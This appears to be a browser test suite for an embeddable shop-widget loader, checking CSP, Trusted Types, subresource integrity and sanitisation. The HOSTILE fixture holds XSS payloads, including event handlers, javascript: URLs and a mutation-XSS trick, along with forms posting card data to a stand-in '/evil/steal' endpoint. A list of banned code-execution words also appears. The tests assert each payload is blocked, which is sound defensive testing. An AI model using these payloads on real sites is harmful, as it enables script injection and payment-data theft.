"""Strict policies, hostile fragments, hostile style sheets, subresource integrity."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.loader.conftest import Shopfront
from tests.loader.stub_hosts import LOADER, SHOP, Answer

REVIEWS = "<sumeru-widget id=r type=reviews product-id=prd_1><a id=fallback href='/reviews'>Read</a></sumeru-widget>"
WITHOUT_SET_HTML = "delete Element.prototype.setHTML; delete ShadowRoot.prototype.setHTML;"


def test_strict_policy_with_trusted_types_none(shopfront: Shopfront) -> None:
    policy = (
        "default-src 'none'; script-src 'nonce-x' 'strict-dynamic'; style-src 'none'; img-src https://cdn.example; "
        f"connect-src {shopfront.widgets.origin}; form-action 'none'; base-uri 'none'; "
        "require-trusted-types-for 'script'; trusted-types 'none'"
    )
    head = shopfront.script.replace("<script", "<script nonce=x")
    page = shopfront.open(
        REVIEWS + "<div id=b data-sumeru-widget=rating-badge data-product-id=prd_1>★</div>",
        head=head,
        headers={"Content-Security-Policy": policy},
    )
    shopfront.wait_events("ready", 2)
    page.get_by_role("link", name="Next").click()
    shopfront.wait_events("page")
    page.get_by_label("Name").fill("Ada")
    page.get_by_role("button", name="Send").click()
    shopfront.wait_events("submit")
    colour = "getComputedStyle(document.querySelector('#b').shadowRoot.querySelector('p')).color"
    assert page.evaluate(colour) == "rgb(1, 2, 3)", "the adopted sheet is in force"
    assert page.evaluate("refused") == []
    assert shopfront.complaints == []


@pytest.mark.parametrize("allowed", [True, False])
def test_trusted_types_without_set_html(shopfront: Shopfront, allowed: bool) -> None:
    shopfront.context.add_init_script(WITHOUT_SET_HTML)
    policy = f"require-trusted-types-for 'script'; trusted-types {'sumeru' if allowed else repr('none')}"
    page = shopfront.open(REVIEWS, headers={"Content-Security-Policy": policy})
    if allowed:
        shopfront.wait_events("ready")
        assert "Reviews of prd_1" in shopfront.text("#r")
        assert page.evaluate("refused") == []
    else:
        (event,) = shopfront.wait_events("error")
        assert "TrustedTypePolicy" in event["error"]["message"]
        assert page.locator("#fallback").is_visible()
        assert page.evaluate("document.querySelector('#r').shadowRoot") is None


def test_a_browser_without_trusted_types_and_set_html(shopfront: Shopfront) -> None:
    shopfront.context.add_init_script(WITHOUT_SET_HTML + "delete window.trustedTypes;")
    shopfront.open(REVIEWS)
    shopfront.wait_events("ready")
    assert "Reviews of prd_1" in shopfront.text("#r")


@pytest.mark.parametrize("right", [True, False])
def test_pinned_with_integrity(shopfront: Shopfront, right: bool) -> None:
    manifest = json.loads((LOADER.parent / "manifest.json").read_text())
    integrity = manifest["integrity"] if right else "sha384-" + "A" * 64
    src = f"{shopfront.widgets.origin}/embed/{manifest['hash']}/loader.js"
    page = shopfront.open(
        REVIEWS, head=f'<script async crossorigin integrity="{integrity}" src="{src}" data-shop="{SHOP}"></script>'
    )
    if right:
        shopfront.wait_events("ready")
        assert shopfront.widgets.ending("/batch")[0].path == f"/w/v1/{SHOP}/batch"
    else:
        page.wait_for_load_state()
        assert page.locator("#fallback").is_visible()
        assert page.evaluate("window.sumeru") is None


HOSTILE = """
<img src="/x" onerror="window.pwn=1"><script>window.pwn=2</script><svg onload="window.pwn=3"><use href="/evil.svg#a"/></svg>
<a id="js" href="javascript:window.pwn=4">a</a><iframe srcdoc="<script>parent.pwn=5</script>"></iframe>
<form id="js-form" action="javascript:window.pwn=6"><button id="js-button">b</button></form>
<form id="stripped" data-post method="post"><button id="stripped-button">b</button></form>
<form id="away" data-post method="post" action="{evil}/steal"><input name="card" value="1"><button id="away-button">b</button></form>
<form id="away-get" data-go action="{evil}/steal"><button id="away-get-button">b</button></form>
<form id="override" method="post" action="{base}reviews"><button id="override-button" formaction="{evil}/steal">b</button></form>
<form id="clobber" data-post method="post" action="{evil}/steal"><input name="closest"><input name="dataset">
<input name="action" value="{base}reviews"><button id="clobber-button">b</button></form>
<a id="away-link" data-go href="{evil}/steal">a</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwn=7&gt;"></table></mtext></math>
"""


def test_hostile_fragment_on_a_page_without_policy(shopfront: Shopfront) -> None:
    evil = shopfront.store.origin + "/evil"
    html = HOSTILE.format(evil=evil, base=shopfront.widgets.base)
    shopfront.widgets.items["reviews"] = {"state": "ready", "html": html}
    page = shopfront.open("<sumeru-widget id=r type=reviews>x</sumeru-widget>")
    shopfront.wait_events("ready")
    asked = page.evaluate(
        """(evil) => { const asked = []; const real = fetch;
            window.fetch = (url, ...rest) => { asked.push(String(url)); return real(url, ...rest); };
            document.querySelector('#r').shadowRoot.querySelectorAll('button').forEach((b) => b.click());
            const root = document.querySelector('#r').shadowRoot; root.querySelector('#js').click();
            root.addEventListener('click', (e) => e.preventDefault()); root.querySelector('#away-link').click();
            return asked; }""",
        evil,
    )
    assert asked == [shopfront.widgets.base + "reviews"], "only the form that points there, whatever its button says"
    shopfront.fence()
    assert page.evaluate("window.pwn") is None
    assert page.url == shopfront.store.origin + "/"
    assert [seen for seen in shopfront.store.log if "steal" in seen.path or seen.method == "POST"] == []


def test_hostile_style_sheet(shopfront: Shopfront) -> None:
    shopfront.widgets.items["bundles"] = {"state": "ready", "html": "<p>text</p><button>Add</button>"}
    hostile = (
        "<style>*{all:unset!important}button{display:none!important}p{color:red!important}"
        "sumeru-widget{display:block!important}</style>"
    )
    page = shopfront.open(hostile + "<sumeru-widget id=r type=bundles>x</sumeru-widget>")
    shopfront.wait_events("ready")
    styles = page.evaluate(
        """() => { const root = document.querySelector('#r').shadowRoot;
            return [getComputedStyle(root.querySelector('p')).color, getComputedStyle(root.querySelector('button')).display]; }"""
    )
    assert styles == ["rgb(1, 2, 3)", "inline-block"]


def test_fetched_addresses_stay_inside_the_base(shopfront: Shopfront) -> None:
    """A link that only looks like the base, or leaves it by ``..``, is not followed by the loader."""
    base = shopfront.widgets.base
    links = f"<a id=a data-go href='{base}../shp_2/reviews'>a</a><a id=b data-go href='{base[:-1]}0/reviews'>b</a>"
    shopfront.widgets.items["reviews"] = {"state": "ready", "html": links}
    page = shopfront.open("<sumeru-widget id=r type=reviews>x</sumeru-widget>")
    shopfront.wait_events("ready")
    taken = page.evaluate(
        """() => { const root = document.querySelector('#r').shadowRoot; const taken = [];
            addEventListener('click', (e) => { taken.push(e.defaultPrevented); e.preventDefault(); });
            root.querySelectorAll('a').forEach((a) => a.click()); return taken; }"""
    )
    assert taken == [False, False]


def test_the_source_has_no_way_to_run_text(shopfront: Shopfront) -> None:
    text = LOADER.read_text()
    for word in (
        "eval(",
        "new Function",
        "document.write",
        "localStorage",
        "sessionStorage",
        "cookie",
        "http",
    ):
        assert word not in text, word
    assert text.count("import(") == 1, "the overlay, from beside the loader; see test_overlay.py"
    assert Path(LOADER.parent / "manifest.json").exists()


def test_answer_that_is_not_json(shopfront: Shopfront) -> None:
    shopfront.widgets.next_answers = [Answer("<h1>Log in</h1>", headers={"Access-Control-Allow-Origin": "*"})] * 2
    page = shopfront.open(REVIEWS)
    (event,) = shopfront.wait_events("error")
    assert "JSON" in event["error"]["message"]
    assert page.locator("#fallback").is_visible()
